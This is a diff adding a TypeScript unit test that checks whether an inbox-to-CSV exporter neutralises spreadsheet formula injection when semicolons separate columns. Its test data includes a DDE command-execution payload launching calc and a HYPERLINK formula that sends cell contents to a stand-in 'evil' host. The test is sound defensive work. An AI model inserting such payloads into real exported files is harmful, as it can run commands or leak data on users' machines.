@@ -29,6 +29,17 @@ describe('the inbox as CSV', () => {
     expect([...inboxCsv(feed.all())].join('')).toContain(`"'=HYPERLINK(""http://x"")"`)
   })
 
+  it('lets no cell be run where the list separator is a semicolon, as in most of Europe (T21)', () => {
+    const feed = memoryFeed()
+    feed.add([
+      arrival({ ...SIGNED, actor: `P;=1+cmd|'/C calc'!A0;x`, actorCompany: 'x;"=HYPERLINK("http://evil/"&A1)' }),
+    ])
+    const text = [...inboxCsv(feed.all())].join('')
+    const rows: string[][] = parse(text, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true })
+    expect(rows.flat().filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([])
+    expect(rows.flat().length).toBeGreaterThan(4)
+  })
+
   it('gives any number of entries some lines at a time', () => {
     const feed = memoryFeed()
     feed.add(Array.from({ length: 1_100 }, (_, at) => arrival(`no message ${at}`)))
